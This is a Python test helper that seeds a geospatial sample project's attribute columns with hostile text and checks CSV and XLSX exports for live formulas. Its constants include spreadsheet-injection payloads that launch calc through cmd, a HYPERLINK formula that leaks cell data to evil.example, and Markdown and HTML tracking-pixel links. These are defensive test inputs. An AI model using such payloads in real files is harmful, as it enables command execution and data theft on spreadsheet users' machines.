"""The bundled sample with attribute text written to hurt (issue 20), and checks of outputs.

Every text column that reaches an output (names, holders, operators, contacts, companies,
an extra unknown column) is given hostile strings in turn: spreadsheet formulas with each
prefix, rich and Markdown markup, matplotlib mathtext, HTML and a control character.
"""

from __future__ import annotations

import csv
import itertools
import json
import shutil
from pathlib import Path

from asmap.layers import sample_path
from asmap.layers.cells import FORMULA_PREFIXES

#: Text a spreadsheet runs as a formula, one per prefix (=, +, -, @, tab, carriage return).
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Open the cadastre")',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")
#: Markup of rich, Markdown, HTML and mathtext.
MARKUP = ("[/]", "roads [old]", "Altan $ #1 $", "Costs $5 to $10",
          "![logo](http://evil.example/pixel.png?who=ngo)",
          '<img src="http://evil.example/pixel.png">', "[bold]x[/bold] *y* _z_")
#: A name with a control character (BEL), which openpyxl refuses.
CONTROL = "Bell\x07 Gold"
HOSTILE = FORMULAS + MARKUP + (CONTROL,)
#: An unknown tailings column whose name is itself hostile (it reaches headers, FIELDS.md).
HOSTILE_COLUMN = "=cmd|' /C calc'!A0 [remark] ![i](http://evil.example/c.png)"
#: Columns given hostile text, by layer (other columns keep the sample's values).
COLUMNS = {"tailings": ("name", "operator", "contact", "remark"),
           "licenses": ("holder", "contact"), "posts": ("name",),
           "reclamation": ("company",), "restricted": ("name",), "roads": ("name",),
           "settlements": ("name",), "rivers": ("name",)}


def hostile_project(folder: Path) -> Path:
    """Copy the sample to `folder` with hostile text in every column of `COLUMNS`."""
    shutil.copytree(sample_path(), folder)
    strings = itertools.cycle(HOSTILE)
    for kind, columns in COLUMNS.items():
        path = folder / f"{kind}.geojson"
        data = json.loads(path.read_text(encoding="utf-8"))
        for feature in data["features"]:
            for column in columns:
                feature["properties"][column] = next(strings)
            if kind == "tailings":
                feature["properties"][HOSTILE_COLUMN] = "x"
        path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return folder


def formula_cells_csv(path: Path) -> list[str]:
    """Every cell of a CSV file that a spreadsheet would run as a formula."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _number(c)]


def formula_cells_xlsx(path: Path) -> list[str]:
    """Every formula cell of a workbook (openpyxl reads formulas as data_type 'f')."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text
